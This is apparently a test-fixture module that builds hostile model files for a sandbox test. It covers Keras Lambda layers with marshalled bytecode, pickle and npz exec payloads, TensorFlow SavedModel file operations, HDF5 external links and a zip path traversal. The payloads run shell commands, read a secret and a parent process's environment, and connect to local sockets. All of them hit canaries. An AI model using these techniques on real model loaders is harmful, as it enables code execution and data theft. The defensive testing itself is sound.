"""Files whose code does harm when it runs, for the day on which every static check fails.

Each harm is aimed at canaries: files to read and to overwrite, and sockets that listen. All are outside of the folder
of whoever loads the file.
"""

import codecs
import io
import json
import marshal
import pickle
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import numpy as np

from tests.badfiles import hdf5_file, keras_file, layer, sequential, unzipped, zipped
from tests.hostile.files import function, in_weights, old_config

SECRET = "a-secret-of-another-job"


@dataclass(frozen=True)
class Canaries:
    """What the payloads go for."""

    folder: Path
    port: int

    @property
    def secret(self) -> Path:
        return self.folder / "secret"

    @property
    def socket(self) -> Path:
        return self.folder / "socket"

    def file_of(self, name: str) -> Path:
        """Where the payload of this name writes."""
        return self.folder / f"pwned-{name}"


def source(canaries: Canaries, name: str) -> str:
    """A function of one argument that does all the harm it can, and returns what it was given."""
    return f"""
def payload(x, *rest, **others):
    import os, socket, subprocess
    def connect(family, address):
        socket.socket(family).connect(address)
    harms = (
        lambda: open({str(canaries.file_of(name))!r}, "w").write("pwned"),
        lambda: subprocess.run(["touch", {str(canaries.file_of(name + "-process"))!r}]),
        lambda: os.system("touch " + {str(canaries.file_of(name + "-shell"))!r}),
        lambda: connect(socket.AF_UNIX, {str(canaries.socket)!r}),
        lambda: connect(socket.AF_INET, ("127.0.0.1", {canaries.port})),
        lambda: print(open({str(canaries.secret)!r}).read(), flush=True),
        lambda: print("environment of", len(open("/proc/%d/environ" % os.getppid()).read()), flush=True),
        lambda: os.truncate({str(canaries.secret)!r}, 0),
        lambda: os.symlink({str(canaries.secret)!r}, "out/model.tflite"),
    )
    for harm in harms:
        try:
            harm()
        except BaseException:
            pass
    return x
"""


def code_of(canaries: Canaries, name: str) -> list[Any]:
    """The payload as Keras stores byte code: a marshalled code object, defaults, closure."""
    made: dict[str, Any] = {}
    exec(source(canaries, name), made)
    return [codecs.encode(marshal.dumps(made["payload"].__code__), "base64").decode("ascii"), None, None]


class _Run:
    """Runs a program text when it is unpickled."""

    def __init__(self, text: str) -> None:
        self.text = text

    def __reduce__(self) -> tuple[Any, ...]:
        return exec, (self.text,)


def pickled(canaries: Canaries, name: str) -> bytes:
    return pickle.dumps(_Run(source(canaries, name) + "\npayload(0)\n"))


def pickled_arrays(canaries: Canaries, name: str) -> bytes:
    array = np.array([_Run(source(canaries, name) + "\npayload(0)\n")], dtype=object)
    buffer = io.BytesIO()
    np.savez(buffer, x_train=array)
    return buffer.getvalue()


def lambda_layer(canaries: Canaries, name: str) -> dict[str, Any]:
    code, defaults, closure = code_of(canaries, name)
    inner = {"code": code, "defaults": defaults, "closure": closure}
    return layer("Lambda", name="trick", function={"class_name": "__lambda__", "config": inner}, output_shape=[4])


def weights() -> bytes:
    """Weights for networks of one Dense layer at most: without any, loading ends before code runs."""
    import h5py

    buffer = io.BytesIO()
    with h5py.File(buffer, "w") as file:
        variables = file.create_group("layers/dense/vars")
        variables["0"], variables["1"] = np.zeros((4, 4), "float32"), np.zeros(4, "float32")
    return buffer.getvalue()


def loadable(config: dict[str, Any], *, version: str = "3.15.1") -> bytes:
    """A ``.keras`` file that Keras loads to its end."""
    return keras_file(config, version=version, weights=weights())


def nested_lambda(canaries: Canaries, name: str) -> bytes:
    return loadable(sequential(sequential(lambda_layer(canaries, name))))


def lambda_loss(canaries: Canaries, name: str) -> bytes:
    loss = {"class_name": "__lambda__", "config": {"value": code_of(canaries, name)}}
    dense = layer("Dense", units=4)
    return loadable(sequential(dense, compile_config={"optimizer": "sgd", "loss": loss}))


def old_lambda(canaries: Canaries, name: str) -> dict[str, Any]:
    """How Keras 2 writes a Lambda layer."""
    types = {"function_type": "lambda", "output_shape": None, "output_shape_type": "raw"}
    return {"function": code_of(canaries, name), **types}


def old_sequential(inner: dict[str, Any]) -> dict[str, Any]:
    """A network of tf_keras with this layer, for a ``.keras`` file of its own."""
    layers = [layer("InputLayer", batch_input_shape=[None, 4]), inner]
    config = {"name": "old", "layers": layers}
    return {"module": "keras", "class_name": "Sequential", "config": config, "registered_name": None}


def read_by_operation(canaries: Canaries, folder: Path, name: str) -> bytes:
    """A SavedModel whose graph reads, writes and prints to files."""
    import tensorflow as tf

    target = canaries.file_of(name)

    class Module(tf.Module):  # type: ignore[misc]
        @tf.function(input_signature=[tf.TensorSpec([None], tf.float32)])  # type: ignore[untyped-decorator]
        def __call__(self, x: Any) -> Any:
            tf.io.write_file(str(target), "pwned")
            tf.print("pwned", output_stream=f"file://{target}-print")
            tf.print(tf.io.read_file(str(canaries.secret)))
            return x

    module = Module()
    tf.saved_model.save(module, str(folder), signatures={"serving_default": module.__call__})
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for path in folder.rglob("*"):
            archive.write(path, path.relative_to(folder))
    return buffer.getvalue()


def linked(change: Callable[[Any], None]) -> bytes:
    return in_weights(change)()


def external_bytes(canaries: Canaries) -> Callable[[Any], None]:
    """Weights that are the bytes of the secret."""

    def change(file: Any) -> None:
        import h5py

        plist = h5py.h5p.create(h5py.h5p.DATASET_CREATE)
        plist.set_external(str(canaries.secret).encode(), 0, len(SECRET))
        space = h5py.h5s.create_simple((len(SECRET),))
        h5py.h5d.create(file.id, b"stolen", h5py.h5t.NATIVE_UINT8, space, plist)

    return change


def external_link(canaries: Canaries) -> Callable[[Any], None]:
    """A link to an HDF5 file of another job."""

    def change(file: Any) -> None:
        import h5py

        file["stolen"] = h5py.ExternalLink(str(canaries.folder / "secret.h5"), "/stolen")

    return change


def wide(**config: Any) -> bytes:
    return loadable(sequential(layer("Dense", units=4, **config)))


def payloads(canaries: Canaries, folder: Path) -> dict[str, bytes]:
    """All of them by the name of the file; the name says what loads it."""
    models = {
        "lambda": loadable(sequential(lambda_layer(canaries, "lambda"))),
        "nested": nested_lambda(canaries, "nested"),
        "loss": lambda_loss(canaries, "loss"),
        "vocabulary": loadable(sequential(layer("StringLookup", vocabulary=str(canaries.secret)))),
        "get-file": wide(
            activation=function("keras.utils", "get_file"),
            kernel_initializer=layer("get_file", module="keras.utils", origin=f"http://127.0.0.1:{canaries.port}/x"),
        ),
        "unsafe": loadable(
            sequential(
                layer("Dense", units=4, activation=function("keras.config", "enable_unsafe_deserialization")),
                lambda_layer(canaries, "unsafe"),
            )
        ),
        "external": linked(external_bytes(canaries)),
        "link": linked(external_link(canaries)),
    }
    old = {
        "lambda": hdf5_file(old_config("Lambda", **old_lambda(canaries, "old-lambda"))),
        "vocabulary": hdf5_file(old_config("StringLookup", vocabulary=str(canaries.secret))),
    }
    old_archives = {
        "system": loadable(
            old_sequential(
                layer(
                    "Lambda",
                    function=function("os", "system"),
                    function_type="function",
                    output_shape=None,
                    output_shape_type="raw",
                )
            ),
            version="2.15.0",
        ),
        "lambda": loadable(old_sequential(layer("Lambda", **old_lambda(canaries, "old-archive"))), version="2.15.0"),
    }
    saved = read_by_operation(canaries, folder / "saved", "operations")
    tfsm = loadable(sequential(layer("TFSMLayer", filepath=str(folder / "saved"), call_endpoint="serving_default")))
    return {
        **{f"{name}.keras": data for name, data in models.items()},
        **{f"{name}.h5": data for name, data in old.items()},
        **{f"{name}.old.keras": data for name, data in old_archives.items()},
        "operations.saved.zip": saved,
        "tfsm.keras": tfsm,
        "pickle.pkl": pickled(canaries, "pickle"),
        "arrays.npz": pickled_arrays(canaries, "arrays"),
        "config.json.npz": zipped({"../outside.npy": json.dumps(unzipped_names(saved)).encode()}),
    }


def unzipped_names(data: bytes) -> list[str]:
    return sorted(unzipped(data))
